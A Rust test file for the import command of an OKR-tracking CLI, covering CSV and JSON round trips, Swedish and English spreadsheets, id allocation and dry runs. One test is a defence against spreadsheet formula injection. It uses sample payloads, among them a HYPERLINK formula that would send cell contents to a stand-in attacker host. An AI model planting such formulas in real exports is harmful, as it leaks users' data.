//! `okr import`: round trips through okr's own CSV and JSON exports, a
//! spreadsheet in either language's words and numbers, new ids that never
//! reuse or overwrite, and `--dry-run` (refusals: `cli_import_refused.rs`).

use std::fs;

use crate::support::fixture::FIXTURE;
use crate::support::{Sandbox, display};
use serde_json::{Value, json};

fn objectives(v: &Value) -> &Vec<Value> {
    v["objectives"].as_array().unwrap()
}

#[test]
fn a_json_round_trip_gives_the_same_okrs() {
    let w = Sandbox::new();
    w.write(FIXTURE);
    let first = w.okr(&["export", "--quarter", "all", "--format", "json"]);
    first.ok();
    let exported = w.input("export.json", &first.stdout);
    let empty = Sandbox::new();
    let r = empty.okr(&[
        "--lang",
        "en",
        "import",
        "--format",
        "json",
        &display(&exported),
    ]);
    r.ok();
    assert!(
        r.stdout.starts_with(&format!(
            "Added 3 objectives, 5 key results, 2 initiatives, entries in 1 check-in to {}:\n",
            display(&empty.file())
        )),
        "{}",
        r.stdout
    );
    let again = empty.okr(&["export", "--quarter", "all", "--format", "json"]);
    again.ok();
    assert_eq!(
        crate::support::ids_in_order(&again.stdout, &empty.ids()),
        crate::support::ids_in_order(&first.stdout, &w.ids()),
        "the same OKRs, under new ids"
    );
}

#[test]
fn a_csv_round_trip_gives_the_same_okrs() {
    let w = Sandbox::new();
    w.write(FIXTURE);
    let first = w.okr(&["export", "--quarter", "all", "--format", "csv"]);
    first.ok();
    let exported = w.input("export.csv", &first.stdout);
    for lang in ["sv", "en"] {
        let empty = Sandbox::new();
        let r = empty.okr(&[
            "--lang",
            lang,
            "import",
            "--format",
            "csv",
            &display(&exported),
        ]);
        r.ok();
        let again = empty.okr(&["export", "--quarter", "all", "--format", "csv"]);
        again.ok();
        assert_eq!(
            crate::support::ids_in_order(&again.stdout, &empty.ids()),
            crate::support::ids_in_order(&first.stdout, &w.ids()),
            "read in {lang}"
        );
        // The check-in week's row became a check-in and a history entry.
        let saved = empty.json();
        assert_eq!(saved["checkins"][0]["week"], "2026-W47");
        assert_eq!(
            crate::support::nth_key_result(&saved, 0)["history"][0]["note"],
            "Två nya kunder"
        );
    }
}

#[test]
fn a_csv_cell_a_spreadsheet_would_run_is_text_and_comes_back_exactly() {
    // Titles, a unit, an owner and a note a spreadsheet would take for formulas.
    let texts = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")",
        "+SUM(1+1)",
        "-2+3",
        "@cmd",
        "'=already quoted",
        "'' two",
        "'plain apostrophe",
        "-3",
    ];
    let mut v: Value = serde_json::from_str(FIXTURE).unwrap();
    for (i, t) in texts.iter().enumerate().take(3) {
        v["objectives"][i]["title"] = json!(t);
    }
    v["objectives"][0]["owner"] = json!(texts[3]);
    v["objectives"][0]["key_results"][0]["title"] = json!(texts[4]);
    v["objectives"][0]["key_results"][1]["title"] = json!(texts[5]);
    v["objectives"][0]["key_results"][2]["title"] = json!(texts[6]);
    v["objectives"][0]["key_results"][0]["measure"]["unit"] = json!(texts[7]);
    v["objectives"][0]["key_results"][0]["measure"]["start"] = json!(-3.0);
    v["checkins"][0]["entries"][0]["note"] = json!("=1+1");
    let w = Sandbox::new();
    w.write_json(&v);
    let out = w.okr(&["export", "--quarter", "all", "--format", "csv"]);
    out.ok();
    let mut rd = csv::Reader::from_reader(out.stdout.as_bytes());
    let cells: Vec<String> = rd
        .records()
        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
        .collect();
    for cell in &cells {
        let risky = cell.starts_with(['=', '+', '@', '\t', '\r'])
            || (cell.starts_with('-') && cell.parse::<f64>().is_err());
        assert!(!risky, "a spreadsheet would run {cell:?}");
    }
    for quoted in [
        "'=HYPERLINK(",
        "'+SUM(1+1)",
        "'-2+3",
        "'@cmd",
        "''=already",
        "''' two",
        "'=1+1",
    ] {
        assert!(
            cells.iter().any(|c| c.starts_with(quoted)),
            "{quoted}: {cells:?}"
        );
    }
    // Numbers stay numbers; a text that is one is left as it is.
    assert!(cells.iter().any(|c| c == "-3"), "{cells:?}");
    assert!(cells.iter().any(|c| c == "'plain apostrophe"), "{cells:?}");
    // okr's own CSV comes back exactly.
    let exported = w.input("export.csv", &out.stdout);
    let empty = Sandbox::new();
    empty
        .okr(&["import", "--format", "csv", &display(&exported)])
        .ok();
    let back = empty.json();
    let titles: Vec<&str> = objectives(&back)
        .iter()
        .flat_map(|o| {
            std::iter::once(o["title"].as_str().unwrap()).chain(
                o["key_results"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|k| k["title"].as_str().unwrap()),
            )
        })
        .collect();
    for t in [texts[0], texts[1], texts[2], texts[4], texts[5], texts[6]] {
        assert!(titles.contains(&t), "{t:?} not in {titles:?}");
    }
    let first = &objectives(&back)[0];
    assert_eq!(first["owner"], json!(texts[3]));
    assert_eq!(first["key_results"][0]["measure"]["unit"], json!(texts[7]));
    assert_eq!(first["key_results"][0]["measure"]["start"], json!(-3.0));
    assert_eq!(back["checkins"][0]["entries"][0]["note"], json!("=1+1"));
}

#[test]
fn an_import_into_a_file_at_the_id_bound_gives_every_item_an_id_of_its_own() {
    // Ids numbered up to the bound, and counters there: nothing above to count on.
    let mut v: Value = serde_json::from_str(FIXTURE).unwrap();
    v["objectives"][0]["id"] = json!("o1000000000000");
    v["objectives"][0]["key_results"][0]["id"] = json!("kr1000000000000");
    v["objectives"][0]["initiatives"][0]["key_result"] = json!("kr1000000000000");
    v["objectives"][0]["initiatives"][1]["id"] = json!("u1000000000000");
    v["checkins"][0]["entries"][0]["key_result"] = json!("kr1000000000000");
    v["next_ids"] =
        json!({"o": 1_000_000_000_000u64, "kr": 1_000_000_000_000u64, "u": 1_000_000_000_000u64});
    let w = Sandbox::new();
    w.write_json(&v);
    // A Mål with three key results and two Uppgifter, imported twice.
    let sheet = "objective,key_result,initiative\nMål,K1,\nMål,K2,\nMål,K3,\nMål,,U1\nMål,,U2\n";
    let input = w.input("sheet.csv", sheet);
    for _ in 0..2 {
        w.okr(&["import", "--format", "csv", &display(&input)]).ok();
    }
    // The file is read back whole: no id twice.
    let r = w.okr(&["list", "--quarter", "all"]);
    r.ok();
    let ids: Vec<&str> = r
        .stdout
        .lines()
        .filter_map(|l| l.split('\t').next())
        .collect();
    let mut unique = ids.clone();
    unique.sort_unstable();
    unique.dedup();
    assert_eq!(ids.len(), unique.len(), "{}", r.stdout);
    assert_eq!(ids.len(), 3 + 5 + 2 + 2 * (1 + 3 + 2), "{}", r.stdout);
}

#[test]
fn a_dash_reads_standard_input() {
    let w = Sandbox::new();
    w.write(FIXTURE);
    let export = w.okr(&["export", "--quarter", "all", "--format", "json"]);
    let empty = Sandbox::new();
    let mut c = empty.command();
    let file = display(&empty.file());
    c.args([
        "--file", &file, "--lang", "en", "import", "--format", "json", "-",
    ])
    .stdin(std::process::Stdio::piped());
    let mut child = c.stdout(std::process::Stdio::piped()).spawn().unwrap();
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), export.stdout.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{said}");
    assert!(said.starts_with("Added 3 objectives"), "{said}");
    assert_eq!(objectives(&empty.json()).len(), 3, "{said}");
}

#[test]
fn an_import_adds_with_new_ids_and_keeps_a_backup_of_the_file_first() {
    let w = Sandbox::new();
    let file = w.write(FIXTURE);
    let export = w.okr(&["export", "--quarter", "2026-Q4", "--format", "json"]);
    let exported = w.input("q4.json", &export.stdout);
    w.okr(&["import", "--format", "json", &display(&exported)])
        .ok();
    let saved = w.json();
    let ids: Vec<&str> = objectives(&saved)
        .iter()
        .map(|o| o["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids[..3], ["o1", "o2", "o3"], "the file's own keep theirs");
    assert_eq!(ids.len(), 5);
    let old = crate::support::ids_of(FIXTURE);
    let fresh = |id: &str| !old.iter().any(|o| o.eq_ignore_ascii_case(id));
    assert!(
        ids[3..].iter().all(|id| fresh(id) && id.starts_with('o')),
        "{ids:?}"
    );
    let new = &objectives(&saved)[3];
    assert_eq!(new["title"], "Expandera globalt");
    let kr_ids: Vec<&str> = new["key_results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|k| k["id"].as_str().unwrap())
        .collect();
    assert_eq!(kr_ids.len(), 3);
    assert!(
        kr_ids.iter().all(|id| fresh(id) && id.starts_with("kr")),
        "{kr_ids:?}"
    );
    // Links follow the new ids; the file's own OKRs are as they were.
    assert!(fresh(new["initiatives"][0]["id"].as_str().unwrap()));
    assert_eq!(new["initiatives"][0]["key_result"], kr_ids[0]);
    assert_eq!(
        objectives(&saved)[0],
        objectives(&serde_json::from_str(FIXTURE).unwrap())[0]
    );
    // The week's check-in got the new key result's entry beside its own; its texts once.
    let week = &saved["checkins"][0];
    let entries: Vec<&str> = week["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["key_result"].as_str().unwrap())
        .collect();
    assert_eq!(entries, ["kr1", kr_ids[0]]);
    assert_eq!(week["wins"], "Första kunden i Tyskland");
    assert_eq!(saved["from_a_newer_okr"]["keep"], "me");
    assert_eq!(
        fs::read_to_string(w.path().join("okr.json.bak")).unwrap(),
        FIXTURE
    );
    assert!(fs::read_to_string(&file).unwrap().ends_with("}\n"));
}

#[test]
fn ids_are_never_given_twice_not_even_after_a_delete() {
    let w = Sandbox::new();
    let mut v: Value = serde_json::from_str(FIXTURE).unwrap();
    v["next_ids"] = json!({"o": 10, "kr": 20, "u": 7});
    w.write_json(&v);
    let sheet = w.input(
        "sheet.csv",
        "objective,key_result,target,initiative\nNy,Ett,10,Gör det\n",
    );
    w.okr(&["import", "--format", "csv", &display(&sheet)]).ok();
    let saved = w.json();
    let new = objectives(&saved).last().unwrap();
    let old = crate::support::ids_of(FIXTURE);
    for id in [
        &new["id"],
        &new["key_results"][0]["id"],
        &new["initiatives"][0]["id"],
    ] {
        let id = id.as_str().unwrap();
        assert!(!old.iter().any(|o| o.eq_ignore_ascii_case(id)), "{id}");
        assert!(!id.ends_with(char::is_numeric), "drawn, not counted: {id}");
    }
    assert_eq!(
        new["initiatives"][0]["key_result"],
        new["key_results"][0]["id"]
    );
    // The counters an older okr counts on from are as they were.
    assert_eq!(saved["next_ids"], json!({"o": 10, "kr": 20, "u": 7}));
}

#[test]
fn a_swedish_spreadsheet_with_semicolons_groups_its_rows_and_reads_swedish_numbers() {
    let w = Sandbox::new();
    let sheet = w.input(
        "ark.csv",
        "\u{feff}Mål;Nyckelresultat;Start;Målvärde;Nu;Enhet;Ägare;Kvartal;Typ\n\
         Expandera globalt;Sälj för 100 miljoner;0;100;12,5;MSEK;Säljteamet;2026-Q4;Hängiven\n\
         Gör kunderna glada;Intervjua kunder;0;20;4;;;2026 Q4;ambitiös\n\
         Expandera globalt;Öka snittförsäljningen;17 500;20 000;18 250,5;kr;Säljteamet;2026-Q4;\n\
         ;;;;;;;;\n\
         Expandera globalt;Lansera i Tyskland;;;ja;;Säljteamet;2026-Q4;\n",
    );
    let r = w.okr(&[
        "--lang",
        "sv",
        "import",
        "--format",
        "csv",
        &display(&sheet),
    ]);
    r.ok();
    assert!(
        r.stdout
            .starts_with("Lade till 2 mål, 4 nyckelresultat, 0 uppgifter i "),
        "{}",
        r.stdout
    );
    let listed = crate::support::ids_in_order(&r.stdout, &w.ids());
    assert!(
        listed.contains("\n#1 Expandera globalt (2026 Q4 · Hängiven · Säljteamet)\n"),
        "{listed}"
    );
    assert!(
        listed.contains("\n  #3 Öka snittförsäljningen: 18\u{a0}250,5 / 20\u{a0}000\u{a0}kr\n"),
        "{listed}"
    );
    let saved = w.json();
    let o = objectives(&saved);
    assert_eq!(o.len(), 2);
    assert_eq!(o[0]["owner"], "Säljteamet");
    assert_eq!(o[0]["kind"], "committed");
    assert_eq!(o[1]["kind"], "aspirational");
    assert!(o[1].get("owner").is_none());
    assert_eq!(
        crate::support::nth_key_result(&saved, 0)["measure"]["current"],
        12.5
    );
    let kr2 = &crate::support::nth_key_result(&saved, 1)["measure"];
    assert_eq!(
        (&kr2["start"], &kr2["target"], &kr2["current"]),
        (&json!(17500.0), &json!(20000.0), &json!(18250.5))
    );
    // A key result without numbers is done / not done; "ja" is done.
    assert_eq!(
        crate::support::nth_key_result(&saved, 2)["measure"],
        json!({"type": "done", "done": true})
    );
    assert_eq!(
        crate::support::nth_key_result(&saved, 3)["title"],
        "Intervjua kunder"
    );
    // Without a backup: there was no file to keep a copy of.
    assert!(!w.path().join("okr.json.bak").exists());
}

#[test]
fn an_english_spreadsheet_names_its_columns_in_any_case_and_reads_english_numbers() {
    let w = Sandbox::new();
    w.write(FIXTURE);
    let sheet = w.input(
        "sheet.csv",
        "Objective,Key Result,START,Target,Current,unit,Owner,Quarter,KIND,Comment\n\
         Grow,Revenue,\"17,500\",\"20,000\",\"18,000.5\",USD,Anna,2027-Q1,Aspirational,first\n\
         Grow,Churn down,8,2,6,%,Anna,2027-Q1,,\n\
         Only a Mål,,,,,,,2027-Q1,,\n",
    );
    let r = w.okr(&[
        "--lang",
        "en",
        "import",
        "--format",
        "csv",
        &display(&sheet),
    ]);
    r.ok();
    assert!(
        r.stdout.ends_with("Columns not read: Comment\n"),
        "{}",
        r.stdout
    );
    let saved = w.json();
    let new = &objectives(&saved)[3..];
    assert_eq!(new.len(), 2);
    assert_eq!(new[0]["quarter"], "2027-Q1");
    assert_eq!(new[0]["kind"], "aspirational");
    assert_eq!(
        crate::support::nth_key_result(&saved, 5)["measure"]["start"],
        17500.0
    );
    assert_eq!(
        crate::support::nth_key_result(&saved, 5)["measure"]["current"],
        18000.5
    );
    assert_eq!(
        crate::support::nth_key_result(&saved, 6)["measure"]["target"],
        2.0
    );
    assert_eq!(new[1]["title"], "Only a Mål");
    assert!(new[1]["key_results"].as_array().unwrap().is_empty());
}

#[test]
fn text_is_kept_as_given() {
    let w = Sandbox::new();
    let sheet = w.input("sheet.csv",
        "objective,key_result,target,unit\n\"Två rader\nmed\ttab 🚀\",\"Ett \"\"citat\"\" & <b>\",5,m²\n",
    );
    w.okr(&["import", "--format", "csv", &display(&sheet)]).ok();
    let saved = w.json();
    assert_eq!(objectives(&saved)[0]["title"], "Två rader\nmed\ttab 🚀");
    assert_eq!(
        crate::support::nth_key_result(&saved, 0)["title"],
        "Ett \"citat\" & <b>"
    );
    assert_eq!(
        crate::support::nth_key_result(&saved, 0)["measure"]["unit"],
        "m²"
    );
}

#[test]
fn dry_run_says_what_it_would_add_and_writes_nothing() {
    let w = Sandbox::new();
    w.write(FIXTURE);
    let before = fs::read(w.file()).unwrap();
    let modified = fs::metadata(w.file()).unwrap().modified().unwrap();
    let sheet = w.input(
        "sheet.csv",
        "objective,key_result,start,target\nNy,Ett,0,10\n",
    );
    let r = w.okr(&[
        "--lang",
        "en",
        "import",
        "--format",
        "csv",
        "--dry-run",
        &display(&sheet),
    ]);
    r.ok();
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(
        lines[0],
        "Would add 1 objective, 1 key result, 0 initiatives (a dry run: nothing was written):"
    );
    let (o, rest) = lines[1].split_once(' ').unwrap();
    assert!(o.starts_with('o') && !crate::support::ids_of(FIXTURE).contains(&o.to_string()));
    assert_eq!(rest, "Ny (2026 Q4 · Committed)");
    let (kr, rest) = lines[2].trim_start().split_once(' ').unwrap();
    assert!(kr.starts_with("kr"), "{kr}");
    assert_eq!(rest, "Ett: 0 / 10");
    assert_eq!(lines.len(), 3);
    assert_eq!(fs::read(w.file()).unwrap(), before);
    assert_eq!(
        fs::metadata(w.file()).unwrap().modified().unwrap(),
        modified
    );
    assert!(!w.path().join("okr.json.bak").exists());
    assert!(!w.path().join("okr.json.lock").exists());
    // Into a file that is not there: nothing is created.
    let empty = Sandbox::new();
    empty
        .okr(&["import", "--format", "csv", "--dry-run", &display(&sheet)])
        .ok();
    assert!(!empty.file().exists());
}
